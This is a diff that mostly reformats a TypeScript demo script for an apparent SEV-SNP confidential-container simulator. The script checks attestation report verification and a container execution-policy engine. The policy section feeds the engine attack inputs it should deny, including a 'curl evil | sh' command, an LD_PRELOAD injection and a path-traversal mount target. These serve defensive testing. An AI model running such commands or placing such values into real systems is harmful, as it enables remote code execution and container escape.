@@ -15,13 +15,17 @@ import { Rng } from './kernel/rng.js';
 import { SimError } from './kernel/errors.js';
 import { OVMF_TABLE_GUID } from '../models/hypervisor/ovmf-footer-table.js';
 import { SEV_SECTION_TYPE } from '../models/hypervisor/sev-metadata.js';
-import { planSnpLaunch, launchDigestOfPlan, type FirmwareImage } from '../models/hypervisor/qemu-launch-driver.js';
+import {
+  planSnpLaunch, launchDigestOfPlan, type FirmwareImage,
+} from '../models/hypervisor/qemu-launch-driver.js';
 import { sevHashesOf } from '../models/hypervisor/sev-hashes-table.js';
 import { launchVm } from '../models/hypervisor/launch-vm.js';
 import { createPlatform, type PlatformState } from '../models/snp/platform.js';
 import { createFirmware, requestReport } from '../models/snp/firmware.js';
 import { buildCertificateSet, type CertificateSet } from '../models/snp/certificates.js';
-import { verifyAttestationReport, type ReportVerdict, type VerifyReportOptions } from '../models/verifier/report-verifier.js';
+import {
+  verifyAttestationReport, type ReportVerdict, type VerifyReportOptions,
+} from '../models/verifier/report-verifier.js';
 import { amdTrustAnchors, parmaSimTestAnchors } from '../models/verifier/trust-anchors.js';
 import { loadSecurityPolicy } from '../models/policy/load-policy.js';
 import { evaluateEnforcementPoint, type Decision } from '../models/policy/engine.js';
@@ -32,7 +36,9 @@ import { DEFAULT_UNPRIVILEGED_CAPABILITIES } from '../models/policy/match/capabi
 const SEED = 1;
 const encoder = new TextEncoder();
 
-type Row = Readonly<{ area: string; scenario: string; expected: string; got: string; why: string }>;
+type Row = Readonly<{
+  area: string; scenario: string; expected: string; got: string; why: string;
+}>;
 const rows: Row[] = [];
 
 function say(line = ''): void {
@@ -47,7 +53,8 @@ function record(area: string, scenario: string, expected: string, got: string, w
 // ---------------------------------------------------------------------------------------------
 // The workload: one container group, its layers named by dm-verity root hashes.
 
-const layerHash = (name: string): string => createHash('sha256').update(`parma-sim demo layer ${name}`).digest('hex');
+const layerHash = (name: string): string =>
+  createHash('sha256').update(`parma-sim demo layer ${name}`).digest('hex');
 const LAYERS = { base: layerHash('base'), app: layerHash('app'), evil: layerHash('evil') };
 
 const DEMO_POLICY = `package policy
@@ -108,7 +115,9 @@ reason := {"errors": data.framework.errors}
 // ---------------------------------------------------------------------------------------------
 // Part 1: launch and attestation.
 
-/** A small OVMF-shaped firmware image: the footer-table facts and SEV metadata a QEMU launch uses. */
+/**
+ * A small OVMF-shaped firmware image: the footer-table facts and SEV metadata a QEMU launch uses.
+ */
 function demoOvmf(): FirmwareImage {
   const size = 64 * 1024;
   const bytes = Rng.fromSeed(SEED).fork('demo-ovmf').bytes(size);
@@ -129,7 +138,8 @@ function demoOvmf(): FirmwareImage {
 }
 
 type Evidence = Readonly<{
-  report: Uint8Array; certs: CertificateSet; expectedMeasurement: Uint8Array; platform: PlatformState;
+  report: Uint8Array; certs: CertificateSet; expectedMeasurement: Uint8Array;
+  platform: PlatformState;
 }>;
 
 function launchAndAttest(policyDigest: Uint8Array, guestPolicy: bigint): Evidence {
@@ -139,10 +149,13 @@ function launchAndAttest(policyDigest: Uint8Array, guestPolicy: bigint): Evidenc
     kernel: rng.fork('kernel').bytes(256 * 1024), initrd: rng.fork('initrd').bytes(128 * 1024),
     append: 'console=ttyS0 parma.demo=1',
   });
-  const plan = planSnpLaunch({ ovmf: demoOvmf(), hashes, vcpus: 4, vcpuSig: 0xa00f11, guestFeatures: 0x1n, vmmType: 'QEMU' });
+  const plan = planSnpLaunch({
+    ovmf: demoOvmf(), hashes, vcpus: 4, vcpuSig: 0xa00f11, guestFeatures: 0x1n, vmmType: 'QEMU',
+  });
   const expectedMeasurement = launchDigestOfPlan(plan); // what a relying party precomputes
   const { guest } = launchVm({
-    plan, policy: guestPolicy, platform, rng: rng.fork('snp').fork('guest0'), finish: { host_data: policyDigest },
+    plan, policy: guestPolicy, platform, rng: rng.fork('snp').fork('guest0'),
+    finish: { host_data: policyDigest },
   });
   const firmware = createFirmware(SEED, platform);
   const reportData = new Uint8Array(64);
@@ -150,7 +163,9 @@ function launchAndAttest(policyDigest: Uint8Array, guestPolicy: bigint): Evidenc
   const response = requestReport(firmware, {
     context: guest, senderVmpl: 0, request: { report_data: reportData, vmpl: 0, key_sel: 0 },
   });
-  if (response.statusName !== 'SUCCESS') throw new SimError('SNP_FIRMWARE_STATUS', { status: response.status }, response.reason);
+  if (response.statusName !== 'SUCCESS') {
+    throw new SimError('SNP_FIRMWARE_STATUS', { status: response.status }, response.reason);
+  }
   const certs = buildCertificateSet({ seed: SEED, product: 'Milan', platform });
   return { report: response.report, certs, expectedMeasurement, platform };
 }
@@ -160,17 +175,23 @@ function verdictText(verdict: ReportVerdict): { got: string; why: string } {
   return { got: 'reject', why: verdict.failures.map((f) => f.code).join(', ') };
 }
 
-function verify(evidence: Evidence, overrides: Partial<VerifyReportOptions> & { report?: Uint8Array } = {}): ReportVerdict {
+function verify(
+  evidence: Evidence, overrides: Partial<VerifyReportOptions> & { report?: Uint8Array } = {},
+): ReportVerdict {
   const { certs } = evidence;
-  return verifyAttestationReport(overrides.report ?? evidence.report, { ark: certs.ark, ask: certs.ask, vcek: certs.endorsementCert }, {
-    trustAnchors: parmaSimTestAnchors(), product: 'Milan', ...overrides,
-  });
+  return verifyAttestationReport(
+    overrides.report ?? evidence.report,
+    { ark: certs.ark, ask: certs.ask, vcek: certs.endorsementCert },
+    { trustAnchors: parmaSimTestAnchors(), product: 'Milan', ...overrides },
+  );
 }
 
 function attestationRows(policyDigest: Uint8Array): void {
-  say('Attestation: the UVM is launched through SNP_LAUNCH_START/UPDATE/FINISH with HOST_DATA = SHA-256(policy)');
+  say('Attestation: the UVM is launched through SNP_LAUNCH_START/UPDATE/FINISH'
+    + ' with HOST_DATA = SHA-256(policy)');
   const good = launchAndAttest(policyDigest, 0x3001fn);
-  say(`  measurement ${toHex(good.expectedMeasurement).slice(0, 32)}…  host_data ${toHex(policyDigest).slice(0, 32)}…`);
+  say(`  measurement ${toHex(good.expectedMeasurement).slice(0, 32)}…`
+    + `  host_data ${toHex(policyDigest).slice(0, 32)}…`);
   const appraisal = { measurement: good.expectedMeasurement, hostData: policyDigest };
   const row = (scenario: string, expected: string, verdict: ReportVerdict, code?: string): void => {
     const { got, why } = verdictText(verdict);
@@ -180,19 +201,29 @@ function attestationRows(policyDigest: Uint8Array): void {
   row('genuine report, chain and claims', 'accept', verify(good, { appraisal }));
   const tampered = good.report.slice();
   tampered[0xc0] = tampered[0xc0]! ^ 0x01; // host rewrites HOST_DATA to claim another policy
-  row('host flips a HOST_DATA bit', 'reject', verify(good, { report: tampered, appraisal }), 'VERIFY_BAD_SIGNATURE');
-  const otherPolicy = createHash('sha256').update('package policy\n# a more permissive policy\n').digest();
-  row('relying party expects another policy', 'reject', verify(good, { appraisal: { ...appraisal, hostData: otherPolicy } }), 'VERIFY_HOST_DATA');
-  const revoked = buildCertificateSet({ seed: SEED, product: 'Milan', platform: good.platform, revokedSerials: [0x10001n] });
-  row('ASK revoked on the ARK-signed CRL', 'reject', verify(good, { crl: revoked.crl, appraisal }), 'VERIFY_REVOKED');
+  row('host flips a HOST_DATA bit', 'reject', verify(good, { report: tampered, appraisal }),
+    'VERIFY_BAD_SIGNATURE');
+  const otherPolicy = createHash('sha256')
+    .update('package policy\n# a more permissive policy\n').digest();
+  row('relying party expects another policy', 'reject',
+    verify(good, { appraisal: { ...appraisal, hostData: otherPolicy } }), 'VERIFY_HOST_DATA');
+  const revoked = buildCertificateSet({
+    seed: SEED, product: 'Milan', platform: good.platform, revokedSerials: [0x10001n],
+  });
+  row('ASK revoked on the ARK-signed CRL', 'reject', verify(good, { crl: revoked.crl, appraisal }),
+    'VERIFY_REVOKED');
   const genoa = buildCertificateSet({ seed: SEED, product: 'Genoa' });
   row('VCEK of another chip (Genoa chain)', 'reject', verifyAttestationReport(good.report,
-    { ark: genoa.ark, ask: genoa.ask, vcek: genoa.endorsementCert }, { trustAnchors: parmaSimTestAnchors() }));
+    { ark: genoa.ark, ask: genoa.ask, vcek: genoa.endorsementCert },
+    { trustAnchors: parmaSimTestAnchors() }));
   const debug = launchAndAttest(policyDigest, 0xb0000n);
   row('guest launched with DEBUG allowed', 'reject', verify(debug, {}), 'VERIFY_POLICY');
   row('TCB below the relying party minimum', 'reject',
-    verify(good, { appraisal: { ...appraisal, minTcb: { fmc: 0, bl: 9, tee: 0, snp: 30, ucode: 250 } } }), 'VERIFY_TCB_TOO_LOW');
-  row('report signed by a VCEK the AMD roots never issued', 'reject', verify(good, { trustAnchors: amdTrustAnchors() }));
+    verify(good, {
+      appraisal: { ...appraisal, minTcb: { fmc: 0, bl: 9, tee: 0, snp: 30, ucode: 250 } },
+    }), 'VERIFY_TCB_TOO_LOW');
+  row('report signed by a VCEK the AMD roots never issued', 'reject',
+    verify(good, { trustAnchors: amdTrustAnchors() }));
   say();
 }
 
@@ -209,7 +240,8 @@ function realReportRows(): void {
     const kind = existsSync(join(dir, name, 'vlek.der')) ? 'vlek' : 'vcek';
     const report = new Uint8Array(readFileSync(join(dir, name, 'report.bin')));
     const leaf = new Uint8Array(readFileSync(join(dir, name, `${kind}.der`)));
-    const product = name.startsWith('genoa') ? 'Genoa' : name.startsWith('turin') ? 'Turin' : 'Milan';
+    const product = name.startsWith('genoa') ? 'Genoa'
+      : name.startsWith('turin') ? 'Turin' : 'Milan';
     const verdict = verifyAttestationReport(report, { [kind]: leaf }, {
       trustAnchors: amdTrustAnchors(), product, appraisal: { allowDebug: true, signingKey: 'any' },
     });
@@ -229,8 +261,10 @@ function createInput(overrides: Record<string, unknown> = {}): Record<string, un
   return {
     containerID: CONTAINER_ID, argList: ['/usr/bin/web', '--port', '8080'],
     envList: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'TERM=xterm'],
-    workingDir: '/srv', sandboxDir: `/run/gcs/c/${SANDBOX_ID}/sandboxMounts`, hugePagesDir: `/run/gcs/c/${SANDBOX_ID}/hugepages`,
-    mounts: [], devices: [], privileged: false, noNewPrivileges: true, user: { id: '1000', name: 'web' },
+    workingDir: '/srv', sandboxDir: `/run/gcs/c/${SANDBOX_ID}/sandboxMounts`,
+    hugePagesDir: `/run/gcs/c/${SANDBOX_ID}/hugepages`,
+    mounts: [], devices: [], privileged: false, noNewPrivileges: true,
+    user: { id: '1000', name: 'web' },
     groups: [{ id: '1000', name: 'web' }], umask: '0022', seccompProfileSHA256: '',
     // The policy says `capabilities: null`: the engine then expects the unprivileged defaults.
     capabilities: {
@@ -243,7 +277,9 @@ function createInput(overrides: Record<string, unknown> = {}): Record<string, un
 
 type Step = readonly [rule: string, input: unknown];
 
-function runSteps(policy: SecurityPolicy, steps: readonly Step[], start: PolicyMetadata = emptyMetadata()): Decision[] {
+function runSteps(
+  policy: SecurityPolicy, steps: readonly Step[], start: PolicyMetadata = emptyMetadata(),
+): Decision[] {
   let metadata = start;
   return steps.map(([rule, input]) => {
     const decision = evaluateEnforcementPoint(policy, metadata, rule, input);
@@ -253,7 +289,9 @@ function runSteps(policy: SecurityPolicy, steps: readonly Step[], start: PolicyM
 }
 
 const mountLayers = (hashes: readonly string[]): Step[] => [
-  ...hashes.map((h, i): Step => ['mount_device', { target: `/run/mounts/scsi/m${i}`, deviceHash: h }]),
+  ...hashes.map((h, i): Step => [
+    'mount_device', { target: `/run/mounts/scsi/m${i}`, deviceHash: h },
+  ]),
   ['mount_overlay', {
     containerID: CONTAINER_ID, layerPaths: hashes.map((_, i) => `/run/mounts/scsi/m${i}`).reverse(),
     target: `/run/gcs/c/${CONTAINER_ID}/rootfs`,
@@ -262,34 +300,52 @@ const mountLayers = (hashes: readonly string[]): Step[] => [
 
 function policyRows(policy: SecurityPolicy): void {
   say('Execution policy: a hostile host drives the guest agent; the engine decides each request');
-  const benign = runSteps(policy, [...mountLayers([LAYERS.base, LAYERS.app]), ['create_container', createInput()],
-    ['exec_in_container', { ...createInput(), argList: ['/usr/bin/web', '--health'] }]]);
+  const benign = runSteps(policy, [
+    ...mountLayers([LAYERS.base, LAYERS.app]), ['create_container', createInput()],
+    ['exec_in_container', { ...createInput(), argList: ['/usr/bin/web', '--health'] }],
+  ]);
   const deniedAt = benign.findIndex((d) => !d.allowed);
   record('policy', 'benign deployment (mount, overlay, create, exec)', 'allow',
-    deniedAt < 0 ? 'allow' : 'deny', deniedAt < 0 ? `${benign.length} requests` : `${benign[deniedAt]!.rule}: ${benign[deniedAt]!.reasons[0]}`);
+    deniedAt < 0 ? 'allow' : 'deny',
+    deniedAt < 0
+      ? `${benign.length} requests`
+      : `${benign[deniedAt]!.rule}: ${benign[deniedAt]!.reasons[0]}`);
   const attack = (scenario: string, steps: readonly Step[], start?: PolicyMetadata): void => {
     const decisions = runSteps(policy, steps, start);
     const last = decisions[decisions.length - 1]!;
     const prefixOk = decisions.slice(0, -1).every((d) => d.allowed);
     const got = last.allowed ? 'allow' : prefixOk ? 'deny' : 'deny (too early)';
-    record('policy', scenario, 'deny', got, last.allowed ? '' : `${last.rule}: ${last.reasons[0] ?? ''}`);
+    record('policy', scenario, 'deny', got,
+      last.allowed ? '' : `${last.rule}: ${last.reasons[0] ?? ''}`);
   };
   attack('substitute a malicious layer', mountLayers([LAYERS.base, LAYERS.evil]).slice(0, 2));
   attack('mount the layers in the wrong order', mountLayers([LAYERS.app, LAYERS.base]));
   attack('inject an environment variable', [...mountLayers([LAYERS.base, LAYERS.app]),
-    ['create_container', createInput({ envList: [...(createInput()['envList'] as string[]), 'LD_PRELOAD=/tmp/x.so'] })]]);
+    ['create_container', createInput({
+      envList: [...(createInput()['envList'] as string[]), 'LD_PRELOAD=/tmp/x.so'],
+    })]]);
   attack('run another command as the container', [...mountLayers([LAYERS.base, LAYERS.app]),
     ['create_container', createInput({ argList: ['/bin/sh', '-c', 'curl evil | sh'] })]]);
-  const started = runSteps(policy, [...mountLayers([LAYERS.base, LAYERS.app]), ['create_container', createInput()]]);
+  const started = runSteps(policy, [
+    ...mountLayers([LAYERS.base, LAYERS.app]), ['create_container', createInput()],
+  ]);
   const afterStart = started[started.length - 1]!.metadata;
-  attack('exec a shell after secrets are released', [['exec_in_container', { ...createInput(), argList: ['/bin/sh'] }]], afterStart);
-  attack('reuse the container ID after shutdown', [['shutdown_container', { containerID: CONTAINER_ID }],
-    ['create_container', createInput()]], afterStart);
-  attack('mount a second device on a used path', [['mount_device', { target: '/run/mounts/scsi/m0', deviceHash: LAYERS.base }],
-    ['mount_device', { target: '/run/mounts/scsi/m0', deviceHash: LAYERS.app }]]);
-  attack('path traversal in a mount target', [['mount_device', { target: '/run/mounts/scsi/m1/../../../etc', deviceHash: LAYERS.base }]]);
+  attack('exec a shell after secrets are released',
+    [['exec_in_container', { ...createInput(), argList: ['/bin/sh'] }]], afterStart);
+  attack('reuse the container ID after shutdown',
+    [['shutdown_container', { containerID: CONTAINER_ID }], ['create_container', createInput()]],
+    afterStart);
+  attack('mount a second device on a used path', [
+    ['mount_device', { target: '/run/mounts/scsi/m0', deviceHash: LAYERS.base }],
+    ['mount_device', { target: '/run/mounts/scsi/m0', deviceHash: LAYERS.app }],
+  ]);
+  attack('path traversal in a mount target', [
+    ['mount_device', { target: '/run/mounts/scsi/m1/../../../etc', deviceHash: LAYERS.base }],
+  ]);
   attack('unencrypted scratch disk', [['rw_mount_device', {
-    target: `/run/gcs/c/${CONTAINER_ID}`, encrypted: false, ensureFilesystem: true, filesystem: 'ext4' }]]);
+    target: `/run/gcs/c/${CONTAINER_ID}`, encrypted: false, ensureFilesystem: true,
+    filesystem: 'ext4',
+  }]]);
   attack('dump the guest agent stacks', [['dump_stacks', {}]]);
   say();
 }
@@ -297,9 +353,12 @@ function policyRows(policy: SecurityPolicy): void {
 function printTable(): boolean {
   const header = ['#', 'area', 'scenario', 'expected', 'got', 'rule / reason'];
   const body = rows.map((r, i) => [`${i + 1}`, r.area, r.scenario, r.expected, r.got, r.why]);
-  const widths = header.map((h, c) => Math.min(c === 5 ? 60 : 48, Math.max(h.length, ...body.map((b) => b[c]!.length))));
+  const widths = header.map((h, c) =>
+    Math.min(c === 5 ? 60 : 48, Math.max(h.length, ...body.map((b) => b[c]!.length))));
   const line = (cells: readonly string[]): string =>
-    cells.map((cell, c) => (cell.length > widths[c]! ? `${cell.slice(0, widths[c]! - 1)}…` : cell.padEnd(widths[c]!))).join('  ');
+    cells.map((cell, c) => (cell.length > widths[c]!
+      ? `${cell.slice(0, widths[c]! - 1)}…`
+      : cell.padEnd(widths[c]!))).join('  ');
   say('Verdicts');
   say(line(header));
   say(widths.map((w) => '-'.repeat(w)).join('  '));
@@ -314,7 +373,8 @@ function main(): number {
   say(`parma-sim demo — seed ${SEED}`);
   say();
   const loaded = loadSecurityPolicy(encoder.encode(DEMO_POLICY));
-  say(`Execution policy: ${loaded.policy.containers.length} container, ${loaded.bytes.length} bytes, SHA-256 ${loaded.digestHex}`);
+  say(`Execution policy: ${loaded.policy.containers.length} container, `
+    + `${loaded.bytes.length} bytes, SHA-256 ${loaded.digestHex}`);
   say();
   attestationRows(Uint8Array.from(Buffer.from(loaded.digestHex, 'hex')));
   realReportRows();
@@ -325,6 +385,7 @@ function main(): number {
 try {
   process.exitCode = main();
 } catch (error) {
-  process.stderr.write(`parma-sim demo: ${error instanceof SimError ? error.message : String(error)}\n`);
+  process.stderr.write(
+    `parma-sim demo: ${error instanceof SimError ? error.message : String(error)}\n`);
   process.exitCode = 70;
 }
